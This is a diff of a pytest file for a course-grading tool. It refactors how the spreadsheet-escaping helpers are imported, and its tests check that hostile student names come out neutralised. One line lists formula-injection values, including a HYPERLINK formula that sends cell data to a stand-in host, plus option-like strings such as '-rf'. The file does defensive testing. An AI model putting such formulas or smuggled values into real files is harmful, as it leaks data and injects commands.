@@ -29,7 +29,7 @@ import pytest
 
 from conftest import FAKE_LAB, GOOD_KERNEL, KIT_ROOT
 from stencil_grader.classes import backend, gpupool, outdir, plan, worker
-from stencil_grader.classes.submissions import shown
+from stencil_grader.classes.submissions import FORMULA_START, sheet_cell, shown
 
 try:
     from hypothesis import HealthCheck, given, settings, strategies as st
@@ -134,15 +134,15 @@ def test_the_corpus_grades_as_plain_names(fake_kit, tmp_path, private_tmp, monke
     # characters escaped there)
     with open(out / "class.csv", newline="", encoding="utf-8") as f:
         rows = {row["student"]: row for row in csv.DictReader(f)}
-    assert set(rows) == {outdir.sheet_cell(n) for n in CORPUS} | set(KERNELS)
+    assert set(rows) == {sheet_cell(n) for n in CORPUS} | set(KERNELS)
     for formula in ("-rf", "--out=x", "+1 555", "@SUM(A1:A9)", '=HYPERLINK("https:\\\\x.example?"&A1,"grade")'):
         assert "'" + formula in rows and formula not in rows
     with open(out / "gradings.csv", newline="", encoding="utf-8") as f:
-        assert not [r for r in csv.DictReader(f) if r["student"][:1] in outdir.FORMULA_START]
+        assert not [r for r in csv.DictReader(f) if r["student"][:1] in FORMULA_START]
     page = (out / "class.html").read_bytes().decode()
     summary = (out / "summary.txt").read_bytes().decode()
     for name in CORPUS:
-        assert rows[outdir.sheet_cell(name)] == dict(rows[kernel_of(name)], student=outdir.sheet_cell(name))
+        assert rows[sheet_cell(name)] == dict(rows[kernel_of(name)], student=sheet_cell(name))
         assert html.escape(name, quote=True) in page
         assert f"  {shown(name)}/{FAKE_LAB}: " in summary
         if not any(c in name for c in "\n\t\x1b\u202e"):
@@ -156,7 +156,7 @@ def test_the_corpus_grades_as_plain_names(fake_kit, tmp_path, private_tmp, monke
     # OUT's layout: no name reaches a kit file
     assert {p.name for p in out.iterdir()} == OUT_TOP
     assert {p.name for p in (out / "students").iterdir()} == set(CORPUS) | set(KERNELS)
-    graded = {n for n in CORPUS + list(KERNELS) if rows[outdir.sheet_cell(n)]["total"]}
+    graded = {n for n in CORPUS + list(KERNELS) if rows[sheet_cell(n)]["total"]}
     assert {p.name for p in (out / "gradescope" / FAKE_LAB).iterdir()} == graded
     assert all(outdir.gradescope_path(out, FAKE_LAB, n).is_file() for n in graded)
     assert json.loads((out / "class.json").read_text())["layout"] == outdir.LAYOUT
@@ -230,7 +230,7 @@ def test_generated_names_through_the_class_files(fake_kit, tmp_path, monkeypatch
         assert outdir.read_reports(out, [FAKE_LAB])[name][FAKE_LAB]["points"] == canned["points"]
         with open(out / "class.csv", newline="", encoding="utf-8") as f:
             rows = {row["student"]: row for row in csv.DictReader(f)}
-        assert rows[outdir.sheet_cell(name)] == dict(rows["plain"], student=outdir.sheet_cell(name))
+        assert rows[sheet_cell(name)] == dict(rows["plain"], student=sheet_cell(name))
         assert html.escape(name, quote=True) in (out / "class.html").read_bytes().decode()
         assert f"  {shown(name)}/{FAKE_LAB}: incorrect: " in (out / "summary.txt").read_text()
         assert {p.name for p in out.iterdir()} == OUT_TOP
